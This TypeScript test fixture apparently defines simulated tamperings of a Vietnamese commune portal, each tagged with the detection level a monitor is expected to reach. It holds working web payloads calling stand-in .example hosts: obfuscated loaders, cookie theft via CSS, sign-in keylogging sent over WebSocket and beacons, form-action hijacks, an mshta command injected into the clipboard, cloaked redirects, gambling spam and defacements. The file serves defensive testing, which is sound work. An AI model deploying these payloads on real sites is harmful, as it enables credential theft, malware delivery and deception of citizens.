/** Attacks on the live portal, each written after what an attacker can do, of no recorded attacker. */
import { portalHost } from './pages.ts';
import type { Change, Visit } from './scene.ts';

export interface Attack extends Change {
  /** What must be reached. */
  readonly expect: 'suspect' | 'alarm';
  /** Hours on the portal's clock within which it must be. */
  readonly within?: number;
}

const inBody = (markup: string) => (html: string) => html.replace('</main>', `${markup}</main>`);
const inHead = (markup: string) => (html: string) => html.replace('</head>', `${markup}</head>`);
const swap = (from: string, to: string) => (html: string) => {
  if (!html.includes(from)) throw new TypeError(`the page does not hold ${from}`);
  return html.replaceAll(from, to);
};
const code = (text: string) => `<script>${text}</script>`;
const codes = (text: string) => [...text].map((letter) => letter.charCodeAt(0)).join(',');
const base64 = (text: string) => Buffer.from(text).toString('base64');
const redirect = (location: string) => ({ type: 'text/html', status: 302, headers: { location }, body: '' });
const only = (isMeant: (visit: Visit) => boolean, then: Required<Change>['page']): Required<Change>['page'] => {
  return (html, visit) => (isMeant(visit) ? then(html, visit) : html);
};

const betting = `<!doctype html><html lang="vi"><head><title>Xóc đĩa online đổi thưởng uy tín - Vua88</title></head><body><h1>Nhà cái Vua88 hoàn trả 1,5% mỗi ngày</h1><p>Đăng ký nhận ngay 128k, nạp đầu thưởng 100%, chơi nổ hũ, tài xỉu, lô đề, bắn cá đổi thưởng rút tiền 2 phút.</p><a href="https://vua88-vip.example/dk">Đăng ký</a></body></html>`;
const landing = '<html><head><title>Quà tặng</title></head><body><h1>Bạn đã trúng thưởng</h1></body></html>';
const landings = { 'dich-den.example/': landing, 'dich-den.example/vao': landing };

export const attacks: Readonly<Record<string, Attack>> = {
  'code out of a meta element': {
    page: inHead(
      `<meta name="token" content="${base64(`document.title='';fetch('https://lenh.example/x').then(r=>r.text()).then(t=>document.body.insertAdjacentHTML('beforeend',t))`)}">${code(`(()=>{})['constr'+'uctor'](atob(document.querySelector('meta[name=token]').content))()`)}`,
    ),
    expect: 'alarm',
  },
  'code out of the style sheet, run by a timer of the portal’s own script': {
    style: `:root{--m:"${base64(`new Image().src='https://dem-luot.example/p?c='+encodeURIComponent(document.cookie)`)}"}`,
    script: `setTimeout(atob(getComputedStyle(document.documentElement).getPropertyValue('--m').trim().slice(1,-1)),50);`,
    expect: 'suspect',
  },
  'a faint frame by the portal’s own script': {
    script: `addEventListener('load',()=>setTimeout(()=>{const f=document.createElement('iframe');f.src='https://khung-nho.example/k';f.width=f.height='1';f.style.cssText='opacity:.01;pointer-events:none;position:absolute';document.body.prepend(f)},900));`,
    files: { 'khung-nho.example/k': '<p>k</p>' },
    expect: 'suspect',
  },
  'a sign-in read by the portal’s own script and sent over a WebSocket': {
    at: '/dich-vu',
    script: `(function(){var w=new WebSocket('wss://phu-tro.example/s'),b={};document.querySelectorAll('#dn input').forEach(function(i){i.addEventListener('keyup',function(){b[i.name]=i.value;w.send(JSON.stringify(b))})})})();`,
    expect: 'alarm',
  },
  'a sign-in read by the portal’s own script and sent on leaving': {
    at: '/dich-vu',
    script: `addEventListener('pagehide',function(){navigator.sendBeacon('https://phu-tro.example/b',new URLSearchParams(new FormData(document.getElementById('dn'))))});`,
    expect: 'suspect',
  },
  'a sign-in sent by a beacon of a new script': {
    at: '/dich-vu',
    page: inBody(
      code(
        `document.getElementById('dn').addEventListener('submit',function(e){navigator.sendBeacon('https://phu-tro.example/b',new FormData(e.currentTarget))});`,
      ),
    ),
    expect: 'alarm',
  },
  'a service worker that loads from a stranger': {
    script: `navigator.serviceWorker&&navigator.serviceWorker.register('/nen.js',{scope:'/'});`,
    files: { [`${portalHost}/nen.js`]: `importScripts('https://nen-moi.example/w.js');` },
    expect: 'suspect',
  },
  'a history filled by the fragment': {
    // Before the page is loaded each would take the place of the one before.
    script: `addEventListener('load',()=>{let i=0;const t=setInterval(()=>{location.hash='t'+i;if(i++>25)clearInterval(t)},50)});`,
    expect: 'suspect',
  },
  'a command in place of what is copied': {
    at: '/dich-vu',
    page: inBody(
      code(
        `document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain','mshta https://cap-nhat.example/a.hta');e.preventDefault()});`,
      ),
    ),
    expect: 'suspect',
  },
  'a clear link over the whole page': {
    script: `(function(){var a=document.createElement('a');a.href='https://dich-den.example/vao';a.target='_blank';a.style.cssText='position:fixed;inset:0;z-index:2147483647;opacity:0';document.body.appendChild(a)})();`,
    files: landings,
    expect: 'suspect',
  },
  'a sign-in form turned in the markup': {
    at: '/dich-vu',
    page: swap('action="/dang-nhap"', 'action="https://dang-nhap.phu-tro.example/luu"'),
    expect: 'alarm',
  },
  'a sign-in button turned by the portal’s own script': {
    at: '/dich-vu',
    script: `document.querySelector('#dn button').setAttribute('formaction','https://dang-nhap.phu-tro.example/luu');`,
    expect: 'alarm',
  },
  'the link of a service swapped': {
    at: '/dich-vu',
    page: swap('https://nophoso.hoalu.example/minh-phu', 'https://nophoso-hoalu.example/minh-phu'),
    expect: 'suspect',
  },
  'the link of a service swapped by the portal’s own script': {
    at: '/dich-vu',
    script: `document.querySelectorAll('a[href*=nophoso]').forEach(function(a){a.href='https://nophoso-hoalu.example/minh-phu'});`,
    expect: 'suspect',
  },
  'a canonical address of somebody else': {
    page: swap(
      'rel="canonical" href="https://minhphu.example/"',
      'rel="canonical" href="https://tin-nong-24.example/"',
    ),
    expect: 'suspect',
  },
  'structured data of a betting house': {
    page: swap(
      '"name":"Ủy ban nhân dân xã Minh Phú","telephone":"02293 861 234"',
      '"name":"Vua88 - cổng game đổi thưởng","telephone":"0999 000 111","sameAs":["https://vua88-vip.example/"]',
    ),
    expect: 'suspect',
  },
  'a style sheet that hides the page and writes its own': {
    style: `body>*{display:none!important}body::before{content:'Chúng tôi đã làm chủ máy chủ này. Bảo mật quá kém!';display:block;font-size:48px;color:#0f0;background:#000;height:100vh}`,
    expect: 'alarm',
  },
  'a QR code that pays somebody else': { at: '/dich-vu', feeAccount: '0388112233', expect: 'suspect' },
  'an account number of somebody else': {
    at: '/dich-vu',
    page: swap('3713 0105 6677', '0388 1122 3344'),
    expect: 'suspect',
  },
  'a telephone number of somebody else': {
    at: '/dich-vu',
    page: swap('0229 3861 555', '0388 112 233'),
    expect: 'suspect',
  },
  'betting in an open shadow root by the portal’s own script': {
    script: `(function(){var d=document.createElement('div');document.querySelector('main').appendChild(d);d.attachShadow({mode:'open'}).innerHTML=decodeURIComponent('${encodeURIComponent('<p>Nhà cái uy tín: tài xỉu, nổ hũ, xóc đĩa đổi thưởng, cá độ bóng đá</p><a href="https://vua88-vip.example/">Chơi ngay</a>')}')})();`,
    expect: 'alarm',
  },
  'a boast in a closed shadow root by the portal’s own script': {
    at: '/gioi-thieu',
    script: `(function(){var d=document.createElement('div');document.querySelector('main').prepend(d);var s=document.createElement('h1');s.textContent=String.fromCharCode(${codes('Defaced by Bao Cat Den, your security sucks')});d.attachShadow({mode:'closed'}).appendChild(s)})();`,
    expect: 'alarm',
  },
  'a package in place of the store': {
    at: '/dich-vu',
    page: swap(
      'https://play.google.com/store/apps/details?id=vn.hoalu.congdan',
      'https://tai-ve.congdan-hoalu.example/congdan.apk',
    ),
    expect: 'alarm',
  },
  'a whole page in a frame of its own markup': {
    page: inBody(
      `<iframe style="position:fixed;inset:0;width:100vw;height:100vh;border:0;z-index:99999" srcdoc="&lt;body style='background:#000;color:#f00'&gt;&lt;h1&gt;0wned by Bao Cat Den&lt;/h1&gt;&lt;p&gt;no system is safe&lt;/p&gt;"></iframe>`,
    ),
    expect: 'alarm',
  },
  'a base address of a stranger': { page: inHead('<base href="https://ban-sao.example/">'), expect: 'suspect' },
  'a stranger’s folder on the portal’s own CDN': {
    page: inHead('<script src="https://cdn.jsdelivr.net/gh/khach-la/tien-ich@main/t.js"></script>'),
    files: { 'cdn.jsdelivr.net/gh/khach-la/tien-ich@main/t.js': 'window.t=1' },
    expect: 'suspect',
  },
  'betting for Googlebot': {
    page: only(
      ({ userAgent }) => /Googlebot/i.test(userAgent),
      () => betting,
    ),
    expect: 'alarm',
    within: 8,
  },
  'phones led away by the server': {
    page: only(
      ({ userAgent }) => /Mobile/.test(userAgent),
      () => redirect('https://dich-den.example/vao'),
    ),
    files: landings,
    expect: 'alarm',
    within: 8,
  },
  'visitors from a search led away': {
    page: only(
      ({ referrer }) => /google\./.test(referrer),
      () => redirect('https://dich-den.example/vao'),
    ),
    files: landings,
    expect: 'alarm',
    within: 8,
  },
  'led away after eight seconds by the portal’s own script': {
    script: `setTimeout(function(){location.replace('https://dich-den.example/vao')},8000);`,
    files: landings,
    expect: 'alarm',
  },
  'led away at the second visit by a script that remembers': {
    page: inBody(
      code(
        `(function(){var k='lan';if(localStorage.getItem(k)){location.href='https://dich-den.example/vao'}else{localStorage.setItem(k,'1')}})();`,
      ),
    ),
    files: landings,
    expect: 'alarm',
  },
  'led away by the server at every third visit': {
    page: only(
      ({ times }) => times % 3 === 0,
      () => redirect('https://dich-den.example/vao'),
    ),
    files: landings,
    expect: 'alarm',
    within: 8,
  },
  'another page for those who read Vietnamese': {
    page: only(
      ({ languages }) => /^vi/.test(languages),
      () => betting,
    ),
    expect: 'alarm',
  },
  'another page at night': {
    page: only(
      ({ hour }) => hour >= 23 || hour < 4,
      () => betting,
    ),
    expect: 'alarm',
    within: 26,
  },
  'hidden links on the busy page by the portal’s own script': {
    at: '/tin-tuc',
    script: `(function(){var d=document.createElement('div');d.style.cssText='height:0;overflow:hidden';d.innerHTML=[1,2,3,4,5,6].map(function(n){return '<a href="https://lien-ket-'+n+'.example/">bong da '+n+'</a>'}).join('');document.body.appendChild(d)})();`,
    expect: 'alarm',
  },
  'a betting article among the news': {
    at: '/tin-tuc',
    page: (html) =>
      html.replace(
        '</article>',
        `</article><article class="flex w-1/2 bg-white p-2"><div class="p-4"><h3><a href="https://vua88-vip.example/huong-dan">Hướng dẫn chơi nổ hũ, tài xỉu dễ trúng nhất tại Vua88</a></h3><p>Mẹo soi cầu bạch thủ, tỷ lệ kèo nhà cái hôm nay, đăng ký nhận 128k.</p></div></article>`,
      ),
    expect: 'alarm',
  },
  'a loader on the busy page': {
    at: '/tin-tuc',
    page: inBody(
      code(
        `(function(a,b){for(var c='',d=0;d<a.length;d++)c+=String.fromCharCode(a[d]^b);var s=document.createElement('script');s.src=c;document.head.appendChild(s)})([${[...'https://nap-them.example/l.js'].map((letter) => letter.charCodeAt(0) ^ 23).join(',')}],23)`,
      ),
    ),
    files: { 'nap-them.example/l.js': 'window.l=1' },
    expect: 'alarm',
  },
  'a threat in place of a standing notice': {
    page: swap(
      'Từ tháng này, bộ phận một cửa nhận hồ sơ cả sáng thứ Bảy để người dân đỡ phải nghỉ việc đồng áng.',
      'Hệ thống của các ông đã nằm trong tay chúng tôi, toàn bộ dữ liệu công dân đã bị sao chép và sẽ được rao bán.',
    ),
    expect: 'alarm',
  },
};
